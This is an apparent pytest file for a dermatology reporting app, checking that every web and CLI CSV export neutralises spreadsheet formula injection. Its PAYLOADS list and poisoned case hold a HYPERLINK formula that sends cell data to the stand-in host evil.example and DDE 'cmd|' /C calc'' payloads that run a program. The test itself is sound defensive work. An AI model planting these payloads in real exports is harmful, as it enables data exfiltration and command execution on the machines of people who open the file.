"""CSV formula injection (issue 12, probe 6): no CSV the app or the CLI writes starts a
cell with ``=``, ``+``, ``-``, ``@``, tab or carriage return, whatever the reporter typed."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pyarrow as pa
from webtools import bearer

from dermavigil.exchange.csvsafe import FORMULA_START, neutralise, neutralise_table
from dermavigil.signals.output import write_signals

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0"]


def _formula_cells(text: str) -> list[str]:
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    return [cell for cell in cells if cell.startswith(FORMULA_START)]


def _poisoned_case(seed_json: dict) -> dict:  # type: ignore[type-arg]
    case = dict(seed_json)
    case["products"] = [{**case["products"][0], "name": PAYLOADS[0]}, *case["products"][1:]]
    case["reactions"] = [{**case["reactions"][0], "verbatim": PAYLOADS[1]}, *case["reactions"][1:]]
    case["treatments"] = [{"drug": "+cmd|' /C calc'!A0"}]
    return case


def test_neutralise_only_touches_text_that_would_run() -> None:
    assert neutralise("=1+1") == "'=1+1" and neutralise("\t=x") == "'\t=x"
    assert neutralise("hyaluronidase") == "hyaluronidase" and neutralise(-3) == -3


def test_neutralise_table_agrees_with_neutralise_on_every_cell() -> None:
    cells = [*PAYLOADS, "=1", "+1", "-1", "@x", "\tx", "\rx", "ok", "", None, "a=b", " =x", "Ü"]
    table = pa.table({"text": cells, "number": [-1.5] * len(cells)})
    safe = neutralise_table(table)
    assert safe["text"].to_pylist() == [neutralise(c) for c in cells]
    assert safe["number"] == table["number"] and safe.schema == table.schema


def test_neutralise_table_keeps_a_column_without_formulas_as_it_is() -> None:
    table = pa.table({"clean": ["Botox", "Ptosis", None, ""], "risky": ["=1", "a", "b", "c"]})
    safe = neutralise_table(table)
    kept, given = safe["clean"].chunk(0), table["clean"].chunk(0)
    assert kept.buffers()[2].address == given.buffers()[2].address  # not copied
    assert safe["risky"].to_pylist() == ["'=1", "a", "b", "c"]


def test_every_web_csv_is_neutralised(client, seed_json) -> None:  # type: ignore[no-untyped-def]
    headers = bearer(client, "assessor")
    created = client.post("/api/cases", json=_poisoned_case(seed_json), headers=headers)
    assert created.status_code == 201, created.text
    case_id = created.json()["case_id"]
    downloads = {
        "/series.csv": client.get("/series.csv", headers=headers),
        "/api/series?format=csv": client.get("/api/series?format=csv", headers=headers),
        "case export": client.get(f"/api/cases/{case_id}/export?format=csv", headers=headers),
        "case listing": client.get("/api/cases/export?format=csv", headers=headers),
    }
    for name, response in downloads.items():
        assert response.status_code == 200, name
        assert any(p in response.text for p in ("HYPERLINK", "@SUM")), name
        assert _formula_cells(response.text) == [], name


def test_the_signal_table_csv_is_neutralised(tmp_path: Path) -> None:
    table = pa.table(
        {"product": [PAYLOADS[0], "botox"], "reaction": [PAYLOADS[1], "ptosis"], "n": [-1, 3]}
    )
    write_signals(table, tmp_path / "signals.csv", None, 10)
    text = (tmp_path / "signals.csv").read_text()
    assert "HYPERLINK" in text and _formula_cells(text) == ["-1"]  # numbers keep their sign
